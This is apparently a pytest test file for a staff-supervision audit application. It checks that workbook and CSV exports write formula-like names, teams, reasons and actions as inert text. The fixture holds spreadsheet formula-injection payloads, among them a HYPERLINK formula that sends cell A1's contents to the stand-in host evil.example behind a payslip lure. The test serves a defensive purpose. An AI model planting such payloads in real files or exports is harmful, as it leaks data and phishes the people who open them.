"""Names, teams and notes that look like formulas reach every workbook and CSV as plain text."""

from __future__ import annotations

import csv
from datetime import date, time
from pathlib import Path

import pytest
from openpyxl import load_workbook

from supervision_audit.db import open_store
from supervision_audit.services.access import SYSTEM_ACTOR as SYS
from supervision_audit.services.access import Actor
from supervision_audit.services.access_log import access_log, write_access_log
from supervision_audit.services.audit_outputs import audit_summary
from supervision_audit.services.audits import save_audit, start_audit
from supervision_audit.services.monitoring_xlsx import export_monitoring
from supervision_audit.services.monthly_return import build_monthly_return
from supervision_audit.services.sessions import miss_session, plan_year
from supervision_audit.services.staff import StaffInput, get_by_staff_id, save_staff

LINK = '=HYPERLINK("http://evil.example/?"&A1,"Click for your payslip")'
TEAM = "=1+1"
HOSTILE = [LINK, TEAM, "+44 121 000 0000", "-2+3", "@SUM(A1:A9)", "\tleading tab"]
D = date


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    store = open_store(tmp_path_factory.mktemp("hostile") / "h.sqlite")
    with store.write() as s:
        save_staff(s, SYS, StaffInput("H1", "@SUM(A1:A9)", "Head", role="senior_manager"))
        save_staff(s, SYS, StaffInput("M1", "-2+3", "Team Manager", team=TEAM,
                                      role="team_manager", supervisor_staff_id="H1"))
        save_staff(s, SYS, StaffInput("W1", LINK, "+44 121 000 0000", team=TEAM,
                                      supervisor_staff_id="M1", employment_start=D(2025, 1, 1)))
        w1 = get_by_staff_id(s, "W1").id
        planned = plan_year(s, SYS, w1, D(2026, 1, 5), 0, time(10, 0), months=2)
        miss_session(s, SYS, planned[0].id, status="postponed", reason=LINK,
                     comments="\tleading tab", today=D(2026, 1, 5))
        head = get_by_staff_id(s, "H1")
        auditor = Actor(username="h1", staff_id=head.id, name=head.name,
                        staff_role=head.role)
        audit = start_audit(s, auditor, w1, D(2026, 2, 20))
        save_audit(s, auditor, audit.id, {**audit.values, "judgement": "inadequate", "actions": [
            {"action": LINK, "owner": "-2+3", "due": "2026-03-31"}]}, complete=True)
    yield store
    store.close()


def _cells(path: Path) -> list:
    book = load_workbook(path)  # formulas kept as formulas: nothing is evaluated
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
            if cell.value is not None]


def _check_text_only(path: Path, *expected: str) -> None:
    cells = _cells(path)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells if isinstance(c.value, str)}
    for value in expected:
        assert any(value in text for text in texts), value
    for cell in cells:
        if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@")):
            assert cell.quotePrefix, cell.coordinate  # Excel keeps it text when edited


def test_monthly_return_writes_names_and_teams_as_text(hostile, tmp_path) -> None:
    out = tmp_path / "return.xlsx"
    with hostile.write() as s:
        build_monthly_return(s, SYS, "2026-01", out, today=D(2026, 2, 1))
    _check_text_only(out, LINK, TEAM, "-2+3")


def test_monitoring_export_writes_names_and_reasons_as_text(hostile, tmp_path) -> None:
    out = tmp_path / "monitoring.xlsx"
    with hostile.write() as s:
        export_monitoring(s, SYS, [get_by_staff_id(s, "W1").id], out)
    _check_text_only(out, LINK, "-2+3")


def test_audit_summary_writes_teams_and_actions_as_text(hostile, tmp_path) -> None:
    out = tmp_path / "summary.xlsx"
    with hostile.write() as s:
        audit_summary(s, SYS, "2026-01", "2026-12", out)
    _check_text_only(out, TEAM, LINK, "-2+3")


def test_access_log_workbook_writes_names_as_text(hostile, tmp_path) -> None:
    out = tmp_path / "log.xlsx"
    with hostile.write() as s:
        write_access_log(access_log(s, SYS), out)
    _check_text_only(out, LINK, "@SUM(A1:A9)")


def test_access_log_csv_starts_no_cell_with_a_formula(hostile, tmp_path) -> None:
    out = tmp_path / "log.csv"
    with hostile.write() as s:
        write_access_log(access_log(s, SYS), out)
    with out.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert f"'{LINK} (W1)" in cells  # the name is kept, made inert
    assert f"'{LINK}" in cells  # the postponement's reason, in the entry's detail
